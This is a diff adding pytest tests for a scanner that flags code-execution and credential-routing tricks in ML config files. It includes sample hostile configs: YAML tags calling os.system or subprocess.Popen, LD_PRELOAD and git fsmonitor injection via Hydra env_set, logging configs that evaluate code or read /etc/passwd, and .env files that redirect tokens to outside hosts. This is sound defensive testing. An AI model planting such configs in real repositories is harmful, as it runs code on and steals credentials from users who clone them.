@@ -1,0 +1,230 @@
+"""Round 21a (fixed in round 22): config values a library acts on (forkvet/vet/configsinks.py,
+forkvet/data/config_sinks.json). HyperPyYAML verbatim tags (F6), Hydra `env_set` (F8),
+logging dictConfig `()`/`class` (F9), logging fileConfig INI eval (F10), YOLOv5 strings (F11),
+credential routes in `wandb/settings` and `.env` (F15), `${oc.env:SECRET}` beside a server (M1),
+and the false errors of round 21's real repositories (#19). Loader-differential rows:
+tests/hostile/test_loader_differential.py (logging-fileconfig-args, logging-dictconfig-factory)."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+
+from forkvet.report import Report, Risk
+
+README = {"README.md": "# Model\n"}
+OWN = {"mymodel.py": "class Net:\n    pass\n"}
+
+
+def _errors(report: Report) -> list[Risk]:
+    return [r for r in report.risks if r.severity == "error" and r.kind == "code-in-data"]
+
+
+def _paths(report: Report) -> list[str]:
+    return sorted({r.path or "" for r in _errors(report)})
+
+
+# -- F6: HyperPyYAML verbatim tags ---------------------------------------------------------------
+@pytest.mark.parametrize(
+    "tag",
+    [
+        "!<!new:subprocess.Popen>",
+        "!<!apply:os.system>",
+        "!<!apply:%6Fs.system>",
+        "!<%21new:os.system>",
+    ],
+    ids=["new", "apply", "escaped-suffix", "escaped-handle"],
+)
+def test_a_verbatim_hyperpyyaml_tag_is_the_tag_the_loader_resolves(
+    vet_repo: Callable[..., Report], tag: str
+) -> None:
+    text = f"sample_rate: 16000\nrun: {tag}\n    args: [touch, x]\n"
+    report = vet_repo({**README, "hyperparams.yaml": text})
+    assert _paths(report) == ["hyperparams.yaml"], report.risks
+
+
+def test_a_verbatim_tag_naming_own_code_passes(vet_repo: Callable[..., Report]) -> None:
+    text = "model: !<!new:mymodel.Net>\n    width: 8\n"
+    assert _paths(vet_repo({**README, **OWN, "hyperparams.yaml": text})) == []
+
+
+# -- F8: Hydra env_set --------------------------------------------------------------------------
+HYDRA_HEAD = "model:\n  _target_: mymodel.Net\n  width: 8\nhydra:\n  job:\n    env_set:\n"
+
+
+@pytest.mark.parametrize(
+    "env",
+    [
+        "      LD_PRELOAD: ${hydra:runtime.cwd}/assets/colormap.bin\n",
+        '      GIT_CONFIG_COUNT: "1"\n      GIT_CONFIG_KEY_0: core.fsmonitor\n',
+        "      PYTHONPATH: /tmp/x\n",
+        "      WANDB_BASE_URL: http://203.0.113.7\n",
+        "      SOME_PLUGIN_PATH: libx.so\n",  # unknown: NOT verified
+    ],
+    ids=["ld-preload", "git-config", "pythonpath", "routing", "unknown"],
+)
+def test_hydra_env_set_of_a_variable_not_known_inert_is_an_error(
+    vet_repo: Callable[..., Report], env: str
+) -> None:
+    report = vet_repo({**README, **OWN, "conf/config.yaml": HYDRA_HEAD + env})
+    assert _paths(report) == ["conf/config.yaml"], report.risks
+    assert "environment variable" in _errors(report)[0].message
+
+
+def test_hydra_env_set_of_inert_variables_passes(vet_repo: Callable[..., Report]) -> None:
+    env = '      CUDA_VISIBLE_DEVICES: "0"\n      OMP_NUM_THREADS: 4\n      HYDRA_FULL_ERROR: 1\n'
+    assert _paths(vet_repo({**README, **OWN, "conf/config.yaml": HYDRA_HEAD + env})) == []
+
+
+# -- F9: logging dictConfig ---------------------------------------------------------------------
+def test_a_dictconfig_factory_in_hydra_job_logging_is_an_error(
+    vet_repo: Callable[..., Report],
+) -> None:
+    text = (
+        "model: {_target_: mymodel.Net}\nhydra:\n  job_logging:\n    handlers:\n      audit:\n"
+        '        "()": subprocess.Popen\n        args: [touch, x]\n'
+        "    root:\n      handlers: [audit]\n"
+    )
+    report = vet_repo({**README, **OWN, "conf/config.yaml": text})
+    assert _paths(report) == ["conf/config.yaml"]
+    assert "logging `()`" in _errors(report)[0].message
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "logging.yaml",
+            "version: 1\nhandlers:\n  x:\n    class: subprocess.Popen\n    args: [touch, x]\n",
+        ),
+        (
+            "logging.json",
+            '{"version": 1, "formatters": {"f": {"()": "os.system", "command": "touch x"}}}',
+        ),
+        ("conf/hydra/job_logging/custom.yaml", 'handlers:\n  x:\n    "()": os.system\n'),
+        (
+            "log.yaml",
+            "version: 1\nhandlers:\n  x:\n    class: logging.StreamHandler\n"
+            "    stream: ext://subprocess.Popen\n",
+        ),
+        (
+            "log.yaml",
+            "version: 1\nhandlers:\n  x:\n    class: logging.FileHandler\n"
+            "    filename: ~/.bashrc\n",
+        ),
+    ],
+    ids=["class", "json-factory", "hydra-group-file", "ext", "file-outside-run"],
+)
+def test_a_dictconfig_file_naming_code_is_an_error(
+    vet_repo: Callable[..., Report], path: str, text: str
+) -> None:
+    assert _paths(vet_repo({**README, path: text})) == [path]
+
+
+def test_hydra_logging_with_loggings_own_handlers_passes(vet_repo: Callable[..., Report]) -> None:
+    # facebookresearch/esm examples/lm-design/conf/config.yaml (three false errors in round 21:
+    # `class` read as Hydra 1.0's, `filename: logging.l` as a string a loader evaluates)
+    text = (
+        "hydra:\n  job_logging:\n    formatters:\n      colorlog:\n"
+        '        datefmt: "%m-%d %H:%M:%S"\n    handlers:\n      file:\n'
+        "        class: logging.FileHandler\n        mode: w\n        filename: logging.l\n"
+        "      console:\n        class: logging.StreamHandler\n        stream: ext://sys.stdout\n"
+        "  hydra_logging:\n    handlers:\n      console:\n        class: logging.StreamHandler\n"
+        "        stream: ext://sys.stdout\n"
+        "    file:\n      filename: ${hydra.runtime.output_dir}/${hydra.job.name}.log\n"
+    )
+    assert _paths(vet_repo({**README, "conf/config.yaml": text})) == []
+
+
+# -- F10: logging fileConfig INI ----------------------------------------------------------------
+INI = (
+    "[loggers]\nkeys=root\n\n[handlers]\nkeys=console\n\n[formatters]\nkeys=plain\n\n"
+    "[logger_root]\nlevel=INFO\nhandlers=console\n\n[handler_console]\n{handler}\n\n"
+    "[formatter_plain]\nformat=%%(asctime)s %%(message)s\n"
+)
+
+
+@pytest.mark.parametrize(
+    "handler",
+    [
+        "class=StreamHandler\nargs=(sys.stdout if not __import__('os').system('x') else 0,)",
+        "class=StreamHandler\nkwargs={'stream': open('/etc/passwd')}",
+        "class=os.system\nargs=('touch x',)",
+        "class=subprocess.Popen\nargs=(['touch', 'x'],)",
+    ],
+    ids=["args", "kwargs", "class-in-loggings-namespace", "class-imported"],
+)
+def test_fileconfig_eval_of_more_than_data_is_an_error(
+    vet_repo: Callable[..., Report], handler: str
+) -> None:
+    report = vet_repo({**README, "logging.conf": INI.format(handler=handler)})
+    assert _paths(report) == ["logging.conf"], report.risks
+
+
+def test_fileconfig_with_loggings_own_handlers_passes(vet_repo: Callable[..., Report]) -> None:
+    handler = (
+        "class=handlers.RotatingFileHandler\nlevel=DEBUG\nformatter=plain\n"
+        "args=('train.log', 'a', 1000000, 3)\n"
+    )
+    files = {**README, "logging.ini": INI.format(handler=handler)}
+    files["logging2.ini"] = INI.format(handler="class=StreamHandler\nargs=(sys.stderr,)")
+    assert _paths(vet_repo(files)) == []
+
+
+# -- F11: YOLOv5-style model YAML strings (held since round 20: a regression row) ----------------
+def test_a_yolov5_model_yaml_string_that_runs_code_is_an_error(
+    vet_repo: Callable[..., Report],
+) -> None:
+    text = (
+        "backbone:\n  [[-1, 1, Conv, [64, 6, 2]],\n"
+        "   [-1, 1, Conv, [128, 3, \"2 if __import__('os').system('x') else 2\"]]]\n"
+    )
+    assert _paths(vet_repo({**README, "models/yolov5s.yaml": text})) == ["models/yolov5s.yaml"]
+
+
+# -- F15: credential routes ---------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("wandb/settings", "[default]\nbase_url = http://127.0.0.1:18765\n"),
+        (".env", "# keys\nWANDB_BASE_URL=http://127.0.0.1:18765\n"),
+        (".env", "export HF_ENDPOINT='http://203.0.113.7'\n"),
+        ("app/.env", "LD_PRELOAD=./assets/colormap.bin\n"),
+        (".env", "GIT_CONFIG_COUNT=1\n"),
+    ],
+    ids=["wandb-settings", "dotenv-wandb", "dotenv-hf", "dotenv-preload", "dotenv-git"],
+)
+def test_a_committed_file_routing_credentials_or_steering_loaders_is_an_error(
+    vet_repo: Callable[..., Report], path: str, text: str
+) -> None:
+    assert _paths(vet_repo({**README, path: text})) == [path]
+
+
+def test_official_settings_and_plain_dotenv_keys_pass(vet_repo: Callable[..., Report]) -> None:
+    files = {
+        **README,
+        "wandb/settings": "[default]\nbase_url = https://api.wandb.ai\nentity = me\n",
+        ".env": "OPENAI_API_KEY=\nWANDB_PROJECT=tiny\nCUDA_VISIBLE_DEVICES=0\n",
+    }
+    assert _paths(vet_repo(files)) == []
+
+
+# -- M1: ${oc.env:SECRET} beside a server -------------------------------------------------------
+def test_a_secret_read_from_the_environment_beside_a_server_is_a_warning(
+    vet_repo: Callable[..., Report],
+) -> None:
+    text = (
+        "run_tag: ${oc.env:HF_TOKEN,none}\nlogger:\n"
+        "  _target_: lightning.pytorch.loggers.MLFlowLogger\n"
+        "  tracking_uri: http://203.0.113.7:5000\n  run_name: ${run_tag}\n"
+    )
+    report = vet_repo({**README, "conf/config.yaml": text})
+    [warning] = [r for r in report.risks if r.kind == "secret-to-server"]
+    assert warning.severity == "warning" and "HF_TOKEN" in warning.message
+
+
+def test_a_plain_variable_beside_a_server_is_no_warning(vet_repo: Callable[..., Report]) -> None:
+    quiet = "data_dir: ${oc.env:DATA_DIR}\nurl: http://example.org/data\n"
+    report = vet_repo({**README, "c.yaml": quiet})
+    assert not [r for r in report.risks if r.kind == "secret-to-server"]
